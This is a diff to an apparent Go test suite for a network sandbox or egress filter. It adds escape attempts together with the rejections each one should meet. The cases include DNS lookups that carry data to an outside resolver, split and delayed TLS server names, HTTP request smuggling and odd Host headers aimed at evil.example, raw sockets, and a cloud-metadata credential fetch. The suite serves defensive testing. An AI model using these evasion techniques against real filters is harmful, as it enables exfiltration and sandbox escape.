@@ -84,6 +84,7 @@ var exfiltration = []attempt{
 	{n: "81.sub", name: "ask for a name below an allowed host", do: "lookup {w}.gitlab.com", wall: "NXDOMAIN"},
 	{n: "81.wild", name: "ask for a name below an allowed domain: it is made up here", do: "lookup {w}.github.com", wall: "ok"},
 	{n: "81.dot", name: "ask a stranger's server over TLS", do: "tls 20.0.0.53:853 - {w}", wall: "ALERT-49"},
+	{n: "81.ans", name: "ask a stranger's server for an allowed name", do: "dns udp 20.0.0.53:53 github.com a", wall: "ok", hurt: `^dns.20\.0\.0\.53:53`},
 	{n: "81.bytes", name: "ask for a name with odd bytes below an allowed domain", do: "dns udp 20.0.0.53:53 {w}%00.github.com a", wall: "NXDOMAIN"},
 }
 
@@ -154,6 +155,8 @@ func nestedWiring() (all []attempt) {
 	return append(all,
 		attempt{n: "n78", name: "talk to a stranger, with --nesting", do: "talk 20.0.0.1:7 {w}", wall: "ECONNRESET", as: "both"},
 		attempt{n: "n82", name: "ask for the cloud's credentials, with --nesting", do: "get http://169.254.169.254/{w}", wall: "403", as: "both"},
+		attempt{n: "n67.pkt", name: "open a packet socket, with --nesting", do: "socket 17 3 0", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
+		attempt{n: "n67.raw", name: "open a raw socket, with --nesting", do: "socket 2 3 1", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
 		attempt{n: "nx14", name: "talk to who takes the connections, with --nesting", do: "listeners {w}", wall: "ECONNRESET ECONNREFUSED", as: "both"},
 	)
 }
@@ -194,6 +197,9 @@ var serverNames = []attempt{
 	{n: "86.net", name: "name a server that is not allowed at an allowed address", do: "tls 20.0.5.5:443 {w}.example {w}", wall: "ALERT-49 ALERT-112"},
 	{n: "88", name: "name no server", do: "tls good.example:443 - {w}", wall: "ALERT-112"},
 	{n: "88.ech", name: "name another server, encrypted", do: "ech good.example:443 {w}.example {w} {ech}", wall: "ALERT-112", hurt: "sni={w}"},
+	{n: "86.cut", name: "name another server, in many small records", do: "tls-records good.example:443 {w}.example {w}", wall: "ALERT-112"},
+	{n: "86.bytes", name: "name another server, a byte at a time", do: "tls-bytes good.example:443 {w}.example {w}", wall: "ALERT-112"},
+	{n: "86.slow", name: "name another server after a pause", do: "tls-slow good.example:443 {w}.example {w}", wall: "ALERT-112 ECONNRESET"},
 	{n: "85.tun", name: "have an allowed proxy lead elsewhere", do: "tunnel good.example:3128 evil.example:7 {w}", wall: "403"},
 	{n: "80.name", name: "speak QUIC to an allowed host", do: "udp good.example:443 {w}", wall: "ECONNREFUSED"},
 	{n: "85.tls", name: "talk in the clear where only TLS is allowed", do: "talk only.example:443 {w}", wall: "ECONNRESET", by: "nobody", why: "that server speaks only TLS"},
@@ -221,6 +227,15 @@ var hostHeaders = []attempt{
 	{n: "91.space", name: "put a space before a colon", do: bad("GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AHost%20:%20evil.example%0D%0A%0D%0A"), wall: "400"},
 	{n: "91.lf", name: "end lines otherwise", do: bad("GET%20/{w}%20HTTP/1.1%0AHost:%20good.example%0AHost:%20evil.example%0A%0A"), wall: "400"},
 	{n: "91.te", name: "encode in an unknown way", do: bad("POST%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0ATransfer-Encoding:%20xchunked%0D%0A%0D%0A0%0D%0A%0D%0A"), wall: "400 501"},
+	{n: "91.empty", name: "begin with an empty line", do: bad("%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
+	{n: "91.blank", name: "begin with a space", do: bad("%20GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
+	{n: "91.tab", name: "put tabs between the words", do: bad("GET%09/{w}%09HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
+	{n: "91.lower", name: "write the method in small letters", do: bad("get%20/{w}%20http/1.1%0D%0Ahost:%20evil.example%0D%0A%0D%0A"), wall: "400 421 505"},
+	{n: "91.odd", name: "use a method that nobody knows", do: bad("M-X!%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400 421"},
+	{n: "91.slow", name: "make a pause in the first word", do: "pause 2 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A", wall: "400 421 ECONNRESET"},
+	{n: "91.late", name: "make a pause before the host", do: "pause 30 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A", wall: "421"},
+	{n: "91.443", name: "ask in the clear on a port of TLS", do: "get http://good.example:8443/{w} evil.example:8443", wall: "421", by: "nobody", why: "that server speaks only TLS"},
+	{n: "91.body", name: "hide a request in a body", do: bad("POST%20/a%20HTTP/1.1%0D%0AHost:%20good.example%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A5;x=%0Ay%0D%0Ahello%0D%0A0%0D%0A%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400", hurt: "-", free: "EOF ok"},
 	{n: "91.h2", name: "speak HTTP/2 in the clear", do: bad("PRI%20*%20HTTP/2.0%0D%0A%0D%0ASM%0D%0A%0D%0A{w}"), wall: "ECONNRESET"},
 	{n: "85.conn", name: "send CONNECT to an allowed host", do: bad("CONNECT%20evil.example:80%20HTTP/1.1%0D%0AHost:%20evil.example:80%0D%0A%0D%0A{w}"), wall: "403", hurt: "{w}|CONNECT"},
 }
@@ -246,7 +261,7 @@ func openWalls() (all []attempt) {
 		if a.n == "84.host" || a.n == "84.out" {
 			continue
 		}
-		a.n = "o" + a.n
+		a.n, a.as = "o"+a.n, ""
 		all = append(all, a)
 	}
 	return append(all,
@@ -258,6 +273,7 @@ func openWalls() (all []attempt) {
 		attempt{n: "o80", name: "speak QUIC, with --net open", do: "udp 20.0.0.1:443 {w}", wall: "ECONNREFUSED"},
 		attempt{n: "o86", name: "name another server, with --net open", do: "tls good.example:443 {w}.example {w}", wall: "ALERT-112"},
 		attempt{n: "o87", name: "ask for another's page, with --net open", do: "get http://good.example/{w} evil.example", wall: "421"},
+		attempt{n: "o81", name: "ask for a name that is an address, with --net open", do: "dns udp 20.0.0.53:53 2852039166 a", wall: "NXDOMAIN", hurt: `2852039166\.`},
 		attempt{n: "ox14", name: "talk to who takes the connections, with --net open", do: "listeners {w}", wall: "ECONNRESET ECONNREFUSED"},
 	)
 }
@@ -305,6 +321,10 @@ var ruleWays = []way{
 	{"ok.22", "ask a host below an allowed domain", "get http://a.b.c.wild.example/{w}"},
 	{"ok.23", "ask a name of which one address is public", "get http://mixed.example/{w}"},
 	{"ok.24", "be sent on to an allowed host", "follow http://good.example/redirect?to=http://x.wild.example/{w}"},
+	{"ok.26", "speak with a database that speaks second", "database good.example:5432 {w}"},
+	{"ok.27", "speak TLS in many small records", "tls-records good.example:443 good.example {w}"},
+	{"ok.28", "speak TLS a byte at a time", "tls-bytes good.example:443 good.example {w}"},
+	{"ok.29", "make a pause before the host", "pause 30 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AConnection:%20close%0D%0A%0D%0A"},
 	{"ok.25", "send much", "upload http://good.example/{w} 3000000"},
 }
 
